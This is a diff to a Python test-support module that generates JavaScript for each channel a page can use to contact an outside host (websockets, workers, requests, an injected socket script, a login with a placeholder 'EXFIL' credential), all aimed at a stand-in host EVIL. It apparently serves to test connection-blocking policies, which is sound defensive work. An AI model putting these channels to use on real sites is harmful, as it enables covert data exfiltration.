@@ -1,7 +1,9 @@
 """Every way that a page has to another host, as expressions of JavaScript.
 
-HELPERS is what they use; `EVIL`, the other host with its port, is defined before it.
+`EVIL` is the other host with its port, `rounds` a while; `at_once` goes them.
 """
+
+from collections.abc import Mapping
 
 from support.recording_origin import Page
 
@@ -43,9 +45,13 @@ def pages(evil: str) -> dict[str, Page]:
     }
 
 
-HELPERS = (
-    SOCKET
-    + """
+# For what says nothing of its end: a while, as our own server's answers measure it.
+_ROUNDS = """
+let passing;
+const rounds = () => passing ??= (async () => {
+  for (let n = 0; n < 90; n++) await fetch('/round?' + n); })();
+"""
+_MEANS = """
 const ended = (target, ...events) => new Promise(done =>
   events.forEach(name => target.addEventListener(name, () => done(name))));
 const put = (name, fields, parent) => {
@@ -53,9 +59,6 @@ const put = (name, fields, parent) => {
   (parent || document.body).append(made); return made; };
 const loaded = (name, fields) => { const made = Object.assign(document.createElement(name), fields);
   const end = ended(made, 'load', 'error'); document.body.append(made); return end; };
-// For what says nothing of its end: a while, as our own server's answers measure it.
-const rounds = async (count = 30) => {
-  for (let n = 0; n < count; n++) await fetch('/round?' + n); };
 const worker = script => new Promise(done => {
   const made = new Worker(script.startsWith('/') ? script + '?evil=' + EVIL : script);
   made.onmessage = event => done(event.data); made.onerror = () => done('error'); });
@@ -84,7 +87,6 @@ const LOGIN = {username: 'EXFIL', credential: 'x'};
 const IN_PLACE = `(${openSocket})('${EVIL}').then(word => postMessage(word));`;
 const PAGE = `<script>(${openSocket})('${EVIL}')</` + 'script>';
 """
-)
 # What each way is called, and the expression that goes it.
 SOCKETS = {
     "websocket": "openSocket(EVIL)",
@@ -137,3 +139,18 @@ REQUESTS = {
 }
 # It opens no connection by itself, with or without a policy.
 SILENT = {"dns-prefetch"}
+# The page that goes it is there no longer.
+LEAVING = {"navigation"}
+
+
+def at_once(ways: Mapping[str, str], addresses: Mapping[str, str]) -> str:
+    """Return statements that go all of these ways, each to its address, and wait a while.
+
+    The same while for all of them: one after the other, they would spend the most of it waiting.
+    """
+    going = (
+        f"Promise.resolve((EVIL => {{{SOCKET}{_MEANS} return {way}; }})('{addresses[name]}'))"
+        ".catch(() => 0);"
+        for name, way in ways.items()
+    )
+    return f"{_ROUNDS}{''.join(going)}await rounds();"
